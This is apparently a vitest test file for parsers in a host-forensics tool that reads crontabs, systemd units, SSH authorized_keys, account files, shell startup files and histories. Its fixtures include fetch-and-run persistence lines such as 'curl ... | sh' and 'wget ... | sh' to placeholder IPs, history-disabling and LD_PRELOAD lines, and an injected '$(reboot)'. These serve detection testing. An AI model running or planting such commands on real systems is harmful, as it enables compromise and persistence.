import { describe, expect, it } from 'vitest';
import { fileItems, sectionOf } from '../../testing/section';
import { parseAccounts } from './accounts';
import { fingerprintOf, parseAuthorizedKeys } from './authorized-keys';
import { parseCron } from './cron';
import { parseHistories } from './histories';
import { historyBlocks, parseStartup } from './startup';
import { logicalLines, parseUnits } from './units';

const nobody = (): null => null;

describe('parseCron', () => {
  const of = (path: string, body: string) => parseCron(sectionOf('', ...fileItems('table', path, body)), nobody);

  it('splits system tables with their user', () => {
    expect(of('/etc/crontab', 'SHELL=/bin/sh\n# x\n17 *\t* * *\troot\tcd / && run-parts\n')).toMatchObject([
      { lineNumber: 3, schedule: '17 *\t* * *', user: 'root', command: 'cd / && run-parts' },
    ]);
  });

  it('names the user of a user table by its file', () => {
    expect(
      of(
        '/var/spool/cron/crontabs/mallory',
        '*/5 * * * * curl -fsSL http://198.51.100.23/mac.sh | sh\n@reboot /tmp/x\n',
      ),
    ).toMatchObject([
      { lineNumber: 1, user: 'mallory', command: 'curl -fsSL http://198.51.100.23/mac.sh | sh' },
      { lineNumber: 2, schedule: '@reboot', command: '/tmp/x' },
    ]);
  });

  it('keeps a line it cannot split, as redis writes it between bytes', () => {
    expect(of('/var/spool/cron/root', 'REDIS0009\xfa\n\n\n*/1 * * * * curl x|sh\n')).toHaveLength(2);
  });

  it('masks secrets and keeps hostile words as text', () => {
    const [entry] = of('/etc/cron.d/x', '* * * * * root mysqldump --password=hunter22 $(reboot) `x` "<b>"\n');
    expect(entry?.line).toContain('--password=*** $(reboot) `x` "<b>"');
    expect(JSON.stringify(entry)).not.toContain('hunter22');
  });

  it('shows scripts of run-parts and their notable lines', () => {
    const entries = parseCron(
      sectionOf(
        '',
        ...fileItems('script', '/etc/cron.daily/x', '#!/bin/sh\n# curl\nwget -qO- http://198.51.100.1/a | sh\n'),
      ),
      nobody,
    );
    expect(entries.map((entry) => entry.command)).toEqual([
      '/etc/cron.daily/x',
      'wget -qO- http://198.51.100.1/a | sh',
    ]);
  });
});

describe('parseUnits', () => {
  it('reads drop-ins under the name of their unit, and joins continued lines', () => {
    const body = '[Service]\n# ExecStart=/no\nExecStart=\nExecStart=/usr/bin/x \\\n  --flag\nEnvironment=A=1\n';
    const [unit] = parseUnits(
      sectionOf('', ...fileItems('system', '/etc/systemd/system/a.service.d/b.conf', body)),
      nobody,
    );
    expect(unit).toMatchObject({
      name: 'a.service',
      dropIn: true,
      kind: 'service',
      execLines: ['ExecStart=', 'ExecStart=/usr/bin/x --flag'],
      enabled: null,
    });
  });

  it('knows which unit is wanted', () => {
    const items = [
      ...fileItems('system', '/etc/systemd/system/bot.timer', 'OnUnitActiveSec=1min\nUnit=bot.service\n'),
      ['wants', '/etc/systemd/system/timers.target.wants/bot.timer\0'] as const,
    ];
    expect(parseUnits(sectionOf('', ...items), nobody)[0]).toMatchObject({
      enabled: true,
      kind: 'timer',
      triggers: 'bot.service',
      timerLines: ['OnUnitActiveSec=1min'],
    });
  });

  it('numbers a continued line by its first', () => {
    expect(logicalLines(Buffer.from('a\\\nb\nc'))).toEqual([
      { lineNumber: 1, text: 'a b' },
      { lineNumber: 3, text: 'c' },
    ]);
  });
});

describe('parseAuthorizedKeys', () => {
  const body = 'AAAAC3NzaC1lZDI1NTE5AAAAIJ0pJ0pJ0pJ0pJ0pJ0pJ0pJ0pJ0pJ0pJ0pJ0pJ0pJ0pJ';
  const text = `# note\nssh-ed25519 ${body} root@kali\ncommand="/bin/x -p 'a b'",no-pty ssh-ed25519 ${body} two words\nnonsense\n`;
  const section = sectionOf('', ['owner 0', 'root'], ...fileItems('key', '/root/.ssh/authorized_keys', text));

  it('keeps fingerprint, comment and options, never the key', () => {
    const { keys, unreadItems } = parseAuthorizedKeys(section);
    expect(keys).toMatchObject([
      {
        user: 'root',
        uid: 0,
        lineNumber: 2,
        keyType: 'ssh-ed25519',
        comment: 'root@kali',
        options: '',
        fingerprint: fingerprintOf(body),
      },
      { lineNumber: 3, comment: 'two words', options: `command="/bin/x -p 'a b'",no-pty` },
    ]);
    expect(unreadItems).toBe(1);
    expect(JSON.stringify(keys)).not.toContain(body);
    expect(keys[0]?.fingerprint).toMatch(/^SHA256:[A-Za-z0-9+/]{43}$/);
  });
});

describe('accounts, startup files and histories', () => {
  const accounts = parseAccounts(
    sectionOf(
      '',
      ['passwd', 'root:x:0:0:root:/root:/bin/bash\nnews:x:9:9::/var/spool/news:/bin/bash \nbad:line\n'],
      ['group', 'docker:x:999:news\nnews:x:9:\n'],
    ),
  );

  it('keeps a shell untrimmed and counts odd lines', () => {
    expect(accounts.accounts[1]).toMatchObject({ name: 'news', shell: '/bin/bash ', groups: ['docker', 'news'] });
    expect(accounts.unreadItems).toBe(1);
    expect(accounts.userName(4711)).toBe('4711');
  });

  const startup = sectionOf(
    '',
    ...fileItems(
      'home 0',
      '/root/.bashrc',
      '# HISTSIZE=0\nexport HISTFILE=/dev/null\nalias ll="ls -l"\nLD_PRELOAD=/tmp/x.so\n',
    ),
  );

  it('keeps the notable lines of a profile', () => {
    expect(parseStartup(startup, nobody, accounts)[0]).toMatchObject({
      kind: 'profile',
      user: 'root',
      notableLines: [{ lineNumber: 2 }, { lineNumber: 4 }],
    });
    expect(historyBlocks(startup, accounts)).toMatchObject([{ user: 'root', lineNumber: 2 }]);
  });

  it('tells the states of a history', () => {
    const section = sectionOf(
      '',
      ['history 0 .bash_history', 'root\0/bin/bash\0/root/.bash_history\0/dev/null\n'],
      ['history 9 .bash_history', 'news\0/bin/bash\0/n/.bash_history\0'],
      ['state', '8180 9 9 12 1790000000\n'],
      ['lines', '3:curl http://x | sh\n'],
    );
    expect(parseHistories(section, historyBlocks(startup, accounts))).toMatchObject([
      { user: 'root', state: 'null-link', notableLines: [], disabledBy: [{ lineNumber: 2 }] },
      {
        user: 'news',
        state: 'present',
        sizeBytes: 12,
        notableLines: [{ lineNumber: 3, text: 'curl http://x | sh' }],
        disabledBy: [],
      },
    ]);
    expect(parseHistories(sectionOf('', ['history 0 .x', 'a\0b\0c\0']), [])[0]?.state).toBe('missing');
  });
});
